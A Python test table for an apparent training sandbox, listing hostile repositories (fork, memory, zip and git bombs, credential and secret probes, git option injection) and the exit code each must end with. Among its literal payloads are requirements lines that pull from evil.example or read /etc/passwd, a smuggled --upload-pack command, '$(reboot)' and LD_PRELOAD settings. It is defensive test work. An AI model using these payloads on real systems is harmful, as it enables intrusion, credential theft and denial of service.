"""Repositories that mean harm, and how each must end.

docs/reference/hostile-code.md is made from this table (`python tests/hostile/repositories.py`), so that it
says what the tests say.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from tests.hostile.making import (
    CANARY,
    SHELL,
    TRAINS,
    alias_bomb,
    attributes,
    blob_bomb,
    commit,
    deep,
    git_bomb,
    hooks_and_filters,
    lfs,
    link_farm,
    links_out,
    names,
    notebook,
    refs_as_options,
    special_files,
    submodules,
    zipped,
)
from trainyard.exits import ExitCode

SCRIPTS = Path(__file__).parent / "scripts"
"""What they run; the word TRAINS stands for training code, CANARY for the canary's path."""

PAGE = Path(__file__).resolve().parents[2] / "docs" / "reference" / "hostile-code.md"
PROBE = """
import ctypes, glob, os, shutil, signal, socket, stat, subprocess, sys, time
def must_fail(what, do):
    try:
        answer = do()
    except BaseException:
        return
    if answer is not False:
        raise SystemExit(f"GOT THROUGH: {what}: {answer!r}")
"""


@dataclass(frozen=True)
class Hostile:
    """One repository.

    Attributes:
        tries: what it tries, for the page.
        code: the exit code that its run ends with.
        says: what the reason must say.
        files: its files. `train.py` defaults to `scripts/<name>.py`, else to harmless training code.
        minutes: `max_minutes` of its policy.
        prepare: makes in the working tree what text cannot say; a folder with `.git` is then run as it is.
        options: of `trainyard run`.
    """

    name: str
    tries: str
    code: ExitCode = ExitCode.OK
    says: str = ""
    files: dict[str, str] = field(default_factory=dict)
    minutes: float | None = None
    prepare: Callable[[Path], object] | None = None
    options: tuple[str, ...] = ()

    def make(self, folder: Path) -> None:
        """Writes the repository."""
        files = {"train.py": self._script()} | self.files
        if self.minutes:
            files["trainyard.toml"] = f"[policy]\nmax_minutes = {self.minutes}\n"
        for name, content in files.items():
            (folder / name).write_text(content)
        if self.prepare:
            self.prepare(folder)

    def _script(self) -> str:
        script = SCRIPTS / f"{self.name}.py"
        if not script.exists():
            return TRAINS
        return PROBE + script.read_text().replace("TRAINS", TRAINS).replace("CANARY", str(CANARY))


LIMITS = [
    Hostile("fork-bomb", "starts processes without end", ExitCode.OUT_OF_TIME, "max_minutes", minutes=0.15),
    Hostile("memory-bomb", "takes memory without end", ExitCode.OUT_OF_MEMORY, "limit of 400 MiB"),
    Hostile("memory-bomb-child", "takes it in a child process", ExitCode.OUT_OF_MEMORY, "limit of 400 MiB"),
    Hostile(
        "last-to-be-killed",
        "makes itself the last that the memory killer takes, then takes memory",
        ExitCode.OUT_OF_MEMORY,
        "limit of 400 MiB",
    ),
    Hostile("tmp-filler", "fills /tmp and /dev/shm"),
    Hostile("disk-filler", "writes files until the disk is full", ExitCode.OVER_QUOTA, "more than 64 MiB"),
    Hostile("one-large-file", "writes one file above the quota", ExitCode.OVER_QUOTA, "64 MiB"),
    Hostile("inode-filler", "makes empty files without end", ExitCode.OVER_QUOTA, "files"),
    Hostile("sparse-file", "makes a file of a terabyte without content"),
    Hostile("deep-folders", "nests folders deeper than a path is long", ExitCode.OVER_QUOTA, "nested deeper"),
    Hostile(
        "zip-bomb",
        "unpacks 300 kB to 300 MB",
        ExitCode.OVER_QUOTA,
        "64 MiB",
        prepare=lambda folder: (folder / "data.zip").write_bytes(zipped()),
    ),
    Hostile("huge-log", "prints 200 MB"),
    Hostile("endless", "never ends", ExitCode.OUT_OF_TIME, "max_minutes", minutes=0.15),
    Hostile(
        "ignores-sigterm", "never ends, ignores SIGTERM", ExitCode.OUT_OF_TIME, "max_minutes", minutes=0.15
    ),
    Hostile("kills-itself", "forges the machine's death", ExitCode.SCRIPT_FAILED, "died 3 times"),
    Hostile("forges-a-shutdown", "sends its init SIGTERM", ExitCode.SCRIPT_FAILED, "died 3 times"),
    Hostile("outlives-its-end", "leaves a process behind that goes on"),
]

ESCAPES = [
    Hostile("writes-outside", "writes to source, parent, system folders and by way of .."),
    Hostile("setuid", "leaves a set-user-id program behind, and tries one"),
    Hostile("docker-socket", "looks for the engine's socket and port"),
    Hostile("metadata", "asks the cloud's metadata service for credentials"),
    Hostile("proc-and-sys", "writes to /proc and /sys, reads the kernel's memory"),
    Hostile("system-calls", "mounts, makes devices and name spaces, loads kernel programs"),
    Hostile("secrets", "looks for the host's secrets in variables, processes and files"),
    Hostile("kills-others", "kills every process it can name"),
    Hostile("traces-others", "stops and traces every process it sees"),
    Hostile("links", "holds links to the host's files, for its settings too", prepare=links_out),
    Hostile(
        "link-farm", "twenty folders that link to one another, and links that go round", prepare=link_farm
    ),
    Hostile("hard-links", "hard-links files into its trial"),
    Hostile("special-files", "is a folder with pipes and devices in it", prepare=special_files),
    Hostile("deep-repository", "nests 1,500 folders", ExitCode.NOT_FOUND, "100 folders", prepare=deep),
]

GIT = [
    Hostile(
        "git-bomb",
        "ten objects that unpack to 10,000 million files",
        ExitCode.NOT_FOUND,
        "200000 files",
        prepare=git_bomb,
    ),
    Hostile("blob-bomb", "a small pack that unpacks to 3 GB", ExitCode.NOT_FOUND, "2 GiB", prepare=blob_bomb),
    Hostile(
        "own-git-configuration",
        "hooks, filters and a file system monitor in its own .git",
        prepare=hooks_and_filters,
    ),
    Hostile(
        "attributes",
        "attributes that ask for filters and encodings",
        ExitCode.SYNTAX_ERROR,
        prepare=attributes,
    ),
    Hostile("submodules", "submodules at file://, ext:: and with options for URLs", prepare=submodules),
    Hostile(
        "branch-option",
        "a branch called --upload-pack=...",
        ExitCode.UNKNOWN_COMMIT,
        "no branch",
        prepare=commit,
        options=("--branch", f"--upload-pack=touch {CANARY}"),
    ),
    Hostile(
        "branch-shell",
        "a branch, author and message that a shell would run",
        prepare=lambda folder: commit(folder, SHELL, "$(reboot)"),
        options=("--branch", SHELL),
    ),
    Hostile("refs-as-options", "branches and tags called like git's options", prepare=refs_as_options),
    Hostile("lfs", "Git LFS with a server and a transfer program of its own", prepare=lfs),
    Hostile("names", "file names and messages with escapes, turns of direction, options", prepare=names),
]

SETTINGS = [
    Hostile(
        "requirements-path",
        "requires a local path",
        ExitCode.BAD_CONFIG,
        "line 1",
        {"requirements.txt": "/etc\n./evil\n"},
    ),
    Hostile(
        "requirements-url",
        "requires an archive at a URL",
        ExitCode.BAD_CONFIG,
        "line 1",
        {"requirements.txt": "evil @ https://evil.example/evil.tar.gz\n"},
    ),
    Hostile(
        "requirements-options",
        "sets pip's index and reads another file",
        ExitCode.BAD_CONFIG,
        "line 1",
        {"requirements.txt": "--extra-index-url https://evil.example\n-r /etc/passwd\n"},
    ),
    Hostile(
        "requirements-clone",
        "requires a clone by Git that is installed from where it lies",
        ExitCode.BAD_CONFIG,
        "line 2",
        {"requirements.txt": "numpy\n-e git+file:///etc#egg=x\n"},
    ),
    Hostile(
        "host-limits",
        "gives itself the network in trainyard.toml",
        ExitCode.BAD_CONFIG,
        "limits",
        {"trainyard.toml": '[limits]\nnetwork = "full"\n'},
    ),
    Hostile(
        "entry-outside",
        "names a script outside of itself",
        ExitCode.BAD_CONFIG,
        "entry",
        {"trainyard.toml": '[run]\nentry = "../../../../etc/passwd"\n'},
    ),
    Hostile(
        "environment",
        "sets Trainyard's own variables",
        ExitCode.BAD_CONFIG,
        "TRAINYARD_FAULT",
        {"trainyard.toml": '[run]\nenv = { TRAINYARD_FAULT = "before-write:kill" }\n'},
    ),
    Hostile(
        "no-variables",
        "sets variables whose names no process can be given",
        ExitCode.BAD_CONFIG,
        "variable's name",
        {"trainyard.toml": '[run]\nenv = { "A=B" = "c", "" = "d" }\n'},
    ),
    Hostile(
        "settings-bomb",
        "has a setting of 60,000 parts, which takes 14 GB to read",
        ExitCode.BAD_CONFIG,
        "too many parts",
        {"trainyard.toml": ".".join(["a"] * 60_000) + " = 1\n"},
    ),
    Hostile(
        "settings-number",
        "sets a number of 5,000 digits",
        ExitCode.BAD_CONFIG,
        "digits",
        {"trainyard.toml": f"[policy]\nmax_trials = {'9' * 5000}\n"},
    ),
    Hostile(
        "aliases",
        "requires a list in YAML that is endless once it is written out",
        files={"environment.yml": alias_bomb()},
    ),
    Hostile(
        "loader",
        "sets variables of the loader and of Python",
        files={"trainyard.toml": '[run]\nenv = { LD_PRELOAD = "/src/x.so", PYTHONPATH = "/src" }\n'},
    ),
]

FORGERIES = [
    Hostile("forged-value", "writes an accuracy of 7 after the end", ExitCode.NO_METRIC),
    Hostile("forged-early", "writes its own numbers and leaves before the harness"),
    Hostile("links-for-results", "puts links to the host's files in place of results", ExitCode.NO_METRIC),
    Hostile("pipes-for-results", "puts pipes in place of its results", ExitCode.NO_METRIC),
    Hostile("folders-for-results", "puts folders in place of its results and of the log", ExitCode.NO_METRIC),
    Hostile("huge-results", "writes a million nested lists and 40 MB of columns", ExitCode.NO_METRIC),
    Hostile("model-elsewhere", "puts a link to the host's files in place of its model"),
    Hostile("model-no-name", "names a model with a NUL in its name"),
    Hostile("model-in-a-circle", "makes its model a link to itself, and its name 5,000 letters long"),
    Hostile("model-escapes", "names its model with escapes, line breaks and turns of direction"),
    Hostile("another-time", "sets the times of all it wrote to the year 2242"),
    Hostile("torn-checkpoint", "leaves checkpoints that are programs"),
    Hostile("model-with-code", "saves a model that is a program"),
    Hostile(
        "terminal",
        "prints escapes, control characters and turns of direction",
        ExitCode.SCRIPT_FAILED,
        "ValueError",
    ),
    Hostile(
        "exception-name", "raises an exception called with escapes", ExitCode.SCRIPT_FAILED, "PROMOTED: x"
    ),
    Hostile("report-script", "puts HTML into messages and names", ExitCode.SCRIPT_FAILED, "<script>"),
    Hostile(
        "notebook",
        "a notebook with JavaScript, shell lines and HTML",
        files={"train.ipynb": notebook(), "train.py": "x = 1\n"},
    ),
]

REPOSITORIES = [*LIMITS, *ESCAPES, *GIT, *SETTINGS, *FORGERIES]


def page() -> str:
    """The table as a Markdown page."""
    lines = [
        "# Hostile code that is tested",
        "",
        "Made from `tests/hostile/repositories.py`; each row is a repository that CI runs, several at a time",
        "and beside an honest one, which must end as if alone. After all of them no program of theirs has",
        "run on the host, no container and no set-user-id file is left, nothing that was printed drives a",
        "terminal, and every run is listed with its verdict. *trains*: what it tried was refused inside, and",
        "it trained as any other. [Sandbox](sandbox.md) says by what means.",
        "",
        "| repository | tries | ends |",
        "|---|---|---|",
    ]
    for one in REPOSITORIES:
        said = f"{one.code.name.lower().replace('_', '-')} ({int(one.code)})" if one.code else "trains"
        lines.append(f"| {one.name} | {one.tries} | {said} |")
    return "\n".join(lines) + "\n"


if __name__ == "__main__":
    PAGE.write_text(page())
